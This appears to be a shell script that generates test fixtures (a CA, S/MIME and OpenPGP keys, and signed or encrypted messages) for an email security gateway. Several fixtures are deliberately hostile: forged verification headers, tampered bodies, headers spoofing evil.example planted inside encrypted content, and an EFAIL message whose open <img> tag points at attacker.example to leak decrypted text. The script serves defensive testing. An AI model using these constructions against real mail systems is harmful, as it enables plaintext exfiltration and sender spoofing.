#!/bin/sh
# Builds the inbound test fixtures with INDEPENDENT tools (openssl, gpg,
# gpgsm): a CA with an OCSP responder certificate, S/MIME users (good,
# revoked, unknown to the responder, expired, CRL-only), the gateway's keys,
# OpenPGP keys (trusted, revoked on the keyserver, unknown), and messages.
# Usage: mkfix.sh DIR OCSP_PORT HTTP_PORT   (idempotent: stamps DIR/.done)
set -eu
D=$1 OP=$2 HP=$3
V=$(cksum <"$0" | cut -d' ' -f1) # rebuilt whenever this script changes
[ -f "$D/.done.$OP.$HP.$V" ] && exit 0
rm -rf "$D"
mkdir -p "$D/ca/newcerts" "$D/www/vks/v1/by-fingerprint" "$D/msg"
cd "$D"
umask 077
: >ca/index.txt
echo 1000 >ca/serial
echo 1000 >ca/crlnumber
cat >ca.cnf <<CNF
[ca]
default_ca = tca
[tca]
dir = ca
database = ca/index.txt
new_certs_dir = ca/newcerts
serial = ca/serial
crlnumber = ca/crlnumber
certificate = ca.pem
private_key = ca.key
default_md = sha256
default_days = 365
default_crl_days = 7
policy = any
unique_subject = no
copy_extensions = none
[any]
commonName = supplied
emailAddress = optional
[usr]
basicConstraints = CA:false
keyUsage = critical, digitalSignature, keyEncipherment
extendedKeyUsage = emailProtection
subjectAltName = email:copy
authorityInfoAccess = OCSP;URI:http://127.0.0.1:$OP/
crlDistributionPoints = URI:http://127.0.0.1:$HP/ca.crl
[crlonly]
basicConstraints = CA:false
keyUsage = critical, digitalSignature, keyEncipherment
extendedKeyUsage = emailProtection
subjectAltName = email:copy
crlDistributionPoints = URI:http://127.0.0.1:$HP/ca.crl
[ocsp]
basicConstraints = CA:false
keyUsage = critical, digitalSignature
extendedKeyUsage = OCSPSigning
CNF
q() { "$@" >/dev/null 2>&1 || { echo "mkfix: failed: $*" >&2; exit 1; }; }
q openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.pem -days 3650 \
    -subj "/CN=Postseal Test CA" -addext "basicConstraints=critical,CA:true" \
    -addext "keyUsage=critical,keyCertSign,cRLSign"
issue() { # name email extensions [openssl ca date args]
    n=$1 e=$2 x=$3
    shift 3
    q openssl req -newkey rsa:2048 -nodes -keyout "$n.key" -out "$n.csr" -subj "/CN=$n/emailAddress=$e"
    q openssl ca -batch -config ca.cnf -extensions "$x" -notext -in "$n.csr" -out "$n.pem" "$@"
}
issue alice alice@ext.example usr
issue carol carol@ext.example usr
issue erin erin@ext.example usr -startdate 20200101000000Z -enddate 20210101000000Z
issue frank frank@ext.example crlonly
issue bob bob@local.example usr
issue ocsp ocsp@ca.example ocsp
# dave: signed by the CA but never entered in its index: the responder says "unknown".
q openssl req -newkey rsa:2048 -nodes -keyout dave.key -out dave.csr -subj "/CN=dave/emailAddress=dave@ext.example"
q openssl x509 -req -in dave.csr -CA ca.pem -CAkey ca.key -set_serial 4242 -days 365 \
    -extfile ca.cnf -extensions usr -out dave.pem
q openssl ca -config ca.cnf -revoke carol.pem -crl_reason keyCompromise
q openssl ca -config ca.cnf -gencrl -out www/ca.crl
# a CRL whose nextUpdate has passed (freshness check)
mkdir -p www-stale
q openssl ca -config ca.cnf -gencrl -crl_lastupdate 20200101000000Z -crl_nextupdate 20200108000000Z -out www-stale/ca.crl
chmod 644 *.pem www/ca.crl www-stale/ca.crl

# ---- messages ----
hdr() { printf 'From: %s\nTo: bob@local.example\nSubject: %s\nDate: Mon, 23 Nov 2026 06:00:00 +0000\nMessage-ID: <%s@ext.example>\nX-Postseal-Verify: valid; forged=yes\nAuthentication-Results: gw.local.example; smime=pass (forged)\nAuthentication-Results: mx.other.example; dkim=pass\nX-Postseal-Hold: forged\n' "$1" "$2" "$2"; }
lf() { sed 's/\r$//'; }
printf 'Content-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob,\r\nthe secret plan is ready.\r\n-- \r\nAlice\r\n' >entity.txt
smime_sign() { # signer from name [opts]
    s=$1 f=$2 nm=$3
    shift 3
    { hdr "$f" "$nm"; openssl cms -sign -in entity.txt -signer "$s.pem" -inkey "$s.key" "$@" | lf; } >"msg/$nm.eml"
}
smime_sign alice alice@ext.example smime-signed-alice
smime_sign alice alice@ext.example smime-opaque-alice -nodetach
smime_sign carol carol@ext.example smime-signed-carol
smime_sign dave dave@ext.example smime-signed-dave
smime_sign erin erin@ext.example smime-signed-erin
smime_sign frank frank@ext.example smime-signed-frank
smime_sign alice mallory@ext.example smime-signed-mismatch
sed 's/secret plan is ready/secret plan is CANCELLED/' msg/smime-signed-alice.eml >msg/smime-tampered.eml
# sign, then encrypt to the gateway's bob certificate (CBC and GCM)
openssl cms -sign -in entity.txt -signer alice.pem -inkey alice.key >signed-alice.txt
{ hdr alice@ext.example smime-enc-signed; openssl cms -encrypt -aes256 -in signed-alice.txt bob.pem | lf; } >msg/smime-enc-signed.eml
{ hdr alice@ext.example smime-gcm-signed; openssl cms -encrypt -aes-256-gcm -in signed-alice.txt bob.pem | lf; } >msg/smime-gcm-signed.eml
{ hdr alice@ext.example smime-enc-stream; openssl cms -encrypt -aes256 -stream -in signed-alice.txt bob.pem | lf; } >msg/smime-enc-stream.eml
{ hdr alice@ext.example smime-certs-only; printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\nContent-Transfer-Encoding: base64\n\n'
  openssl crl2pkcs7 -nocrl -certfile alice.pem -outform DER | base64 -w 76; } >msg/smime-certs-only.eml
{ hdr alice@ext.example smime-enc-other; openssl cms -encrypt -aes256 -in entity.txt alice.pem | lf; } >msg/smime-enc-other.eml
# RFC 9788 header protection: the real Subject inside, a placeholder outside
printf 'Content-Type: text/plain; charset=us-ascii; hp="cipher"\r\nSubject: The real subject\r\nHP-Outer: Subject: [...]\r\n\r\nProtected.\r\n' >hp.txt
{ printf 'From: alice@ext.example\nTo: bob@local.example\nSubject: [...]\nMessage-ID: <hp@ext.example>\n'; openssl cms -encrypt -aes256 -in hp.txt bob.pem | lf; } >msg/smime-enc-hp.eml
# fields planted inside the encrypted entity must not reach the top level
printf 'Content-Type: text/plain\r\nReceived: from evil.example by mx.local.example\r\nFrom: ceo@local.example\r\nReturn-Path: <evil@evil.example>\r\nX-Postseal-Verify: valid; planted\r\nSubject: inner subject\r\n\r\nPlanted.\r\n' >planted.txt
{ hdr alice@ext.example smime-enc-planted; openssl cms -encrypt -aes256 -in planted.txt bob.pem | lf; } >msg/smime-enc-planted.eml
{ hdr alice@ext.example smime-malformed; printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\nMIIBkQYJKoZIhvcNAQcDoIIBgjCCAX4CAQAxggE5MIIBNQIBADAdMBAxDjAMBgNV\nBAMMBWJvZ3VzAgkA3q2+7wAAAAAwDQYJKoZIhvcNAQEBBQAEggEAAAAA\n'; } >msg/smime-malformed.eml
{ hdr alice@ext.example smime-sig-malformed; printf 'MIME-Version: 1.0\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="b1"\n\n--b1\nContent-Type: text/plain\n\nhello\n--b1\nContent-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0B\n--b1--\n'; } >msg/smime-sig-malformed.eml

{ hdr alice@ext.example plain; printf 'MIME-Version: 1.0\nContent-Type: text/plain\n\nJust text.\n'; } >msg/plain.eml

# ---- OpenPGP ----
export GNUPGHOME="$D/gpg-alice"
mkdir -p -m 700 gpg-alice gpg-gw gpg-rita gpg-uma
G="gpg --batch --quiet --pinentry-mode loopback --passphrase="
genkey() { # home uid
    GNUPGHOME=$1 $G --quick-gen-key "$2" ed25519 sign,cert never
    f=$(GNUPGHOME=$1 gpg --with-colons --list-keys "$2" | awk -F: '/^fpr/{print $10; exit}')
    GNUPGHOME=$1 $G --quick-add-key "$f" cv25519 encr never
    echo "$f"
}
q true
A=$(genkey "$D/gpg-alice" "Alice <alice@ext.example>" 2>/dev/null)
B=$(genkey "$D/gpg-gw" "Bob <bob@local.example>" 2>/dev/null)
R=$(genkey "$D/gpg-rita" "Rita <rita@ext.example>" 2>/dev/null)
U=$(genkey "$D/gpg-uma" "Uma <uma@ext.example>" 2>/dev/null)
echo "$A" >alice.fpr; echo "$R" >rita.fpr; echo "$U" >uma.fpr
GNUPGHOME=gpg-gw gpg --export "$B" | GNUPGHOME=gpg-alice gpg --batch --quiet --import 2>/dev/null
GNUPGHOME=gpg-gw gpg --export "$B" | GNUPGHOME=gpg-rita gpg --batch --quiet --import 2>/dev/null
GNUPGHOME=gpg-alice gpg --export "$A" | GNUPGHOME=gpg-gw gpg --batch --quiet --import 2>/dev/null
GNUPGHOME=gpg-rita gpg --export "$R" | GNUPGHOME=gpg-gw gpg --batch --quiet --import 2>/dev/null
GNUPGHOME=gpg-gw $G --quick-lsign-key "$A" >/dev/null 2>&1
GNUPGHOME=gpg-gw $G --quick-lsign-key "$R" >/dev/null 2>&1
pgpmime_enc() { # home from name [gpg options]
    h=$1 f=$2 nm=$3
    shift 3
    { hdr "$f" "$nm"; printf 'MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="pgpb"\n\n--pgpb\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--pgpb\nContent-Type: application/octet-stream; name="encrypted.asc"\n\n'
      GNUPGHOME=$h $G --trust-model always --armor "$@" -r bob@local.example <entity.txt 2>/dev/null
      printf '\n--pgpb--\n'; } >"msg/$nm.eml"
}
pgpmime_enc gpg-alice alice@ext.example pgp-enc-signed --sign --encrypt
pgpmime_enc gpg-alice alice@ext.example pgp-enc-only --encrypt
pgpmime_enc gpg-alice mallory@ext.example pgp-enc-mismatch --sign --encrypt
pgpmime_enc gpg-rita rita@ext.example pgp-enc-rita --sign --encrypt
pgpmime_enc gpg-alice alice@ext.example pgp-nomdc --rfc2440 --cipher-algo CAST5 --encrypt
GNUPGHOME=gpg-gw gpg --export "$B" | GNUPGHOME=gpg-uma gpg --batch --quiet --import 2>/dev/null
pgpmime_enc gpg-uma uma@ext.example pgp-enc-uma --sign --encrypt
# the keyserver (VKS layout, static files): Rita revoked after she signed,
# Uma and Alice as they are
sed 's/^:-----/-----/' "gpg-rita/openpgp-revocs.d/$R.rev" | GNUPGHOME=gpg-rita gpg --batch --quiet --import 2>/dev/null
GNUPGHOME=gpg-rita gpg --armor --export "$R" >"www/vks/v1/by-fingerprint/$R"
GNUPGHOME=gpg-uma gpg --armor --export "$U" >"www/vks/v1/by-fingerprint/$U"
GNUPGHOME=gpg-alice gpg --armor --export "$A" >"www/vks/v1/by-fingerprint/$A"
chmod -R a+rX www
pgpmime_sign() { # home from name
    h=$1 f=$2 nm=$3
    printf 'Content-Type: text/plain; charset=us-ascii\n\nHello Bob,\nthe secret plan is ready.\n' >pgpent.txt
    { hdr "$f" "$nm"; printf 'MIME-Version: 1.0\nContent-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary="sigb"\n\n--sigb\n'
      cat pgpent.txt
      printf '\n--sigb\nContent-Type: application/pgp-signature; name="signature.asc"\n\n'
      sed 's/$/\r/' pgpent.txt | GNUPGHOME=$h $G --armor --detach-sign --digest-algo SHA256 2>/dev/null
      printf '\n--sigb--\n'; } >"msg/$nm.eml"
}
pgpmime_sign gpg-alice alice@ext.example pgp-signed-alice
# Ed's key expired at the end of 2020; he signed in June 2020 (gpg's faked clock)
mkdir -p -m 700 gpg-ed
GNUPGHOME=gpg-ed $G --faked-system-time 20200101T000000 --quick-gen-key "Ed <ed@ext.example>" ed25519 sign,cert 1y 2>/dev/null
GNUPGHOME=gpg-ed gpg --export ed@ext.example | GNUPGHOME=gpg-gw gpg --batch --quiet --import 2>/dev/null
{ hdr ed@ext.example pgp-signed-expired; printf 'MIME-Version: 1.0\nContent-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary="sigb"\n\n--sigb\n'
  cat pgpent.txt
  printf '\n--sigb\nContent-Type: application/pgp-signature; name="signature.asc"\n\n'
  sed 's/$/\r/' pgpent.txt | GNUPGHOME=gpg-ed $G --faked-system-time 20200601T000000 --armor --detach-sign 2>/dev/null
  printf '\n--sigb--\n'; } >msg/pgp-signed-expired.eml
sed 's/secret plan is ready/secret plan is CANCELLED/' msg/pgp-signed-alice.eml >msg/pgp-tampered.eml
# malformed OpenPGP packets inside a well-formed PGP/MIME envelope
{ hdr alice@ext.example pgp-malformed; printf 'MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="pgpb"\n\n--pgpb\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--pgpb\nContent-Type: application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\n\nhQEMA5xxxxxxxxxxAQf/Zm9vYmFyYmF6cXV4\n=AAAA\n-----END PGP MESSAGE-----\n\n--pgpb--\n'; } >msg/pgp-malformed.eml
# EFAIL: an encrypted part next to an attacker's unencrypted part
{ hdr alice@ext.example efail; printf 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="mix"\n\n--mix\nContent-Type: text/html\n\n<img src="http://attacker.example/\n--mix\n'
  sed -n '/^Content-Type: multipart\/encrypted/,$p' msg/pgp-enc-only.eml
  printf '\n--mix--\n'; } >msg/efail.eml
# gpgsm (GnuPG's S/MIME tool) as a second independent S/MIME producer
mkdir -p -m 700 gpgsm
if GNUPGHOME="$D/gpgsm" timeout 30 gpgsm --batch --disable-crl-checks --import ca.pem bob.pem >/dev/null 2>&1; then
    fp=$(openssl x509 -in ca.pem -noout -fingerprint -sha1 | sed 's/.*=//')
    echo "$fp S relax" >gpgsm/trustlist.txt
    { hdr alice@ext.example gpgsm-enc; printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n'
      GNUPGHOME="$D/gpgsm" timeout 30 gpgsm --batch --disable-crl-checks --disable-policy-checks -r bob@local.example --encrypt entity.txt 2>/dev/null | base64 -w 76; } >msg/gpgsm-enc.eml
    # alice's key into gpgsm (PKCS#12 with the legacy algorithms gpgsm 2.2 reads), then a
    # detached signature over the CRLF entity, wrapped as multipart/signed
    q openssl pkcs12 -export -in alice.pem -inkey alice.key -passout pass: -keypbe PBE-SHA1-3DES \
        -certpbe PBE-SHA1-3DES -macalg sha1 -out alice.p12
    GNUPGHOME="$D/gpgsm" timeout 30 gpgsm --batch --pinentry-mode loopback --passphrase '' --disable-crl-checks \
        --import alice.p12 </dev/null >/dev/null 2>&1
    { hdr alice@ext.example gpgsm-signed; printf 'MIME-Version: 1.0\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="gsb"\n\n--gsb\n'
      lf <entity.txt
      printf '\n--gsb\nContent-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\n'
      GNUPGHOME="$D/gpgsm" timeout 30 gpgsm --batch --pinentry-mode loopback --passphrase '' --disable-crl-checks \
          --disable-policy-checks -u alice@ext.example --include-certs -1 --detach-sign entity.txt </dev/null 2>/dev/null | base64 -w 76
      printf '\n--gsb--\n'; } >msg/gpgsm-signed.eml
fi
gpgconf --kill all >/dev/null 2>&1 || true
for h in gpg-alice gpg-gw gpg-rita gpg-uma gpg-ed gpgsm; do GNUPGHOME="$D/$h" gpgconf --kill all >/dev/null 2>&1 || true; done
touch ".done.$OP.$HP.$V"
